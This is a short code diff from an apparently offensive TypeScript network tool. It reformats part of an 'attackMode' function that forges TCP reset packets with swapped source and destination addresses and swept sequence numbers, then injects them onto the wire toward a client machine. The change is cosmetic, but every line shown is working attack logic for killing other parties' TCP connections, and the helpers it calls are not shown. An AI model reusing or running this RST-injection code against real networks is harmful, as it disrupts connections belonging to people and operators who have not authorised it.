@@ -130,7 +130,16 @@ async function attackMode(iface: string, planJson: string): Promise<void> {
         seqBase = (seqBase + 0x01000000) >>> 0;
         let injected = 0;
         for (let k = 0; k < p.count; k++) {
-          const o = { src: dst, dst: src, sport: dport, dport: sport, flags: 'R.', seq: (seqBase + k * p.seqStep) >>> 0, ack: (isn + p.ackOffset) >>> 0, win: 0 };
+          const o = {
+            src: dst,
+            dst: src,
+            sport: dport,
+            dport: sport,
+            flags: 'R.',
+            seq: (seqBase + k * p.seqStep) >>> 0,
+            ack: (isn + p.ackOffset) >>> 0,
+            win: 0,
+          };
           const ip = six ? tcp6({ ...o, hopLimit: p.ttl }) : tcp4({ ...o, ttl: p.ttl, df: true });
           addon.inject(cap.handle, ethernet(ip, { src: plan.ownMac, dst: plan.clientMac, padTo: 60 }));
           injected++;
